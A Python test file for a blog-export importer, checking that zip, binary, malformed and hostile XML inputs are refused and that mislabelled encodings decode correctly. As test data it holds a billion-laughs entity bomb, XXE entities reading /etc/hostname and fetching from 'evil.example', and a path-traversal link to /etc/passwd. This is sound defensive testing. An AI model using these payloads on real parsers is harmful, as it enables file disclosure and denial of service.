"""What was made to harm, or is no text of a blog, is refused with a reason; odd encodings are read."""

from __future__ import annotations

import pytest
from tests.importing.brought import EXPORTS, bring, export_of, findings, refused, text_of

from hikmah.importing.decode import LIMIT, Decoded, decode
from hikmah.importing.drafts import LIMIT as TEXT_LIMIT
from hikmah.importing.words import WHY
from hikmah.read.decode import LIMIT as READER_LIMIT

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))

HEAD = '<?xml version="1.0"?><!DOCTYPE r '
BOMB = f'{HEAD}[<!ENTITY a0 "ha">{LAUGHS}]><rss>&a9;</rss>'
FILE = f'{HEAD}[<!ENTITY x SYSTEM "file:///etc/hostname">]><rss>&x;</rss>'
FAR = f'{HEAD}[<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><rss/>'


@pytest.mark.parametrize(
    ("data", "why"),
    [
        pytest.param(b"", "empty-source", id="empty"),
        pytest.param(b" \n\t", "empty-source", id="blank"),
        pytest.param(b"PK\x03\x04" + b"x" * 50, "packed", id="zip"),
        pytest.param(b"\x1f\x8b" + b"x" * 50, "packed", id="gzip"),
        pytest.param(bytes(range(256)) * 20, "binary", id="bytes"),
        pytest.param(BOMB.encode(), "xml-entities", id="billion-laughs"),
        pytest.param(FILE.encode(), "xml-entities", id="external"),
        pytest.param(FAR.encode(), "xml-entities", id="parameter"),
        pytest.param(b"<rss>" + b"<a>" * 5000 + b"</a>" * 5000 + b"</rss>", "xml-deep", id="deep"),
        pytest.param(b"<rss>" + b"<a>" * 500_000, "xml-deep", id="deep-and-open"),
        pytest.param(b"<rss><channel>", "xml-broken", id="cut-off"),
        pytest.param(b'<?xml version="1.0"?><svg/>', "unknown-form", id="other-xml"),
    ],
)  # fmt: skip
def test_refused(data: bytes, why: str) -> None:
    """One word says why; both languages have a sentence for it."""
    assert refused("x.xml", data) == why
    assert all(WHY[why])


def test_a_file_over_the_limit_is_not_even_decoded() -> None:
    """A gigabyte costs no more than the reading of the limit."""
    assert refused("x.xml", b"<rss>" + b" " * LIMIT) == "too-large"


def test_a_text_longer_than_our_reader_takes_is_left_out() -> None:
    """The limits agree, and the account says so."""
    assert TEXT_LIMIT == READER_LIMIT
    text = "Judul\n27 April 2008\n\n" + "kata " * (TEXT_LIMIT // 4)
    arranged = bring(export_of("x.txt", text.encode()))
    assert arranged.texts == ()
    assert [note.why for note in arranged.notes if note.kind == "story"] == ["too-long"]


@pytest.mark.parametrize(
    ("data", "encoding", "sure"),
    [
        pytest.param("café".encode(), "utf-8", True, id="utf-8"),
        pytest.param("café".encode("utf-8-sig"), "utf-8", True, id="mark"),
        pytest.param("café".encode("utf-16"), "utf-16-le", True, id="utf-16"),
        pytest.param("<a>café</a>".encode("utf-16-be"), "utf-16-be", True, id="utf-16-without-mark"),
        pytest.param("“café”".encode("windows-1252"), "windows-1252", False, id="said-nothing"),
        pytest.param(
            '<?xml encoding="UTF-8"?>“café”'.encode("cp1252"), "windows-1252", False, id="said-wrongly"
        ),
        pytest.param(
            '<?xml encoding="iso-8859-1"?>“café”'.encode("cp1252"), "windows-1252", True, id="latin"
        ),
        pytest.param(
            '<meta charset="iso-8859-2">café'.encode("iso-8859-2"), "iso-8859-2", True, id="declared"
        ),
        pytest.param('<meta charset="rot13">café'.encode("cp1252"), "windows-1252", True, id="no-encoding"),
    ],
)
def test_encodings(data: bytes, encoding: str, sure: bool) -> None:
    """The words are right whatever the declaration says."""
    found = decode(data)
    assert isinstance(found, Decoded)
    assert "café" in found.text
    assert (found.encoding, found.sure) == (encoding, sure)


@pytest.mark.parametrize("encoding", ["utf-16", "windows-1252", "utf-8-sig"])
def test_a_whole_export_in_another_encoding(encoding: str) -> None:
    """The declaration in it, which says UTF-8, is not believed."""
    raw = (EXPORTS / "wordpress.xml").read_text(encoding="utf-8").replace("Pagi itu", "Pagi itu di café")
    arranged = bring(export_of("wordpress.xml", raw.encode(encoding)))
    assert "di café" in text_of(arranged, "stories/senyum.md")
    assert findings(arranged) == []


def test_a_prefix_that_nobody_declared() -> None:
    """Some exporters forget it; the export is read all the same."""
    data = (
        b"<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>1</id><title>A</title><content>b</content>"
        b"<app:control><app:draft>yes</app:draft></app:control></entry></feed>"
    )
    assert len(export_of("x.atom", data).entries) == 1


def test_no_path_leads_out() -> None:
    """Address names come from an export, so they are made of plain letters alone."""
    data = (
        b"<rss><channel><item><title>x</title><link>http://a.example/../../../etc/passwd</link>"
        b"<description>isi</description><guid>../../x</guid></item></channel></rss>"
    )
    assert [path for path, _ in bring(export_of("x.xml", data)).texts] == ["stories/passwd.md"]


@pytest.mark.parametrize("sign", ["<![", "<![x[", "<![if-x]>"])
def test_a_page_with_half_a_section(sign: str) -> None:
    """Browsers pass it over, and Python's parser gives up at it; the page is read all the same."""
    page = f"<html><body><article><h1>A</h1><p>satu</p>{sign}<p>dua</p></article></body></html>"
    assert "dua" in bring(export_of("x.html", page.encode())).texts[0][1]
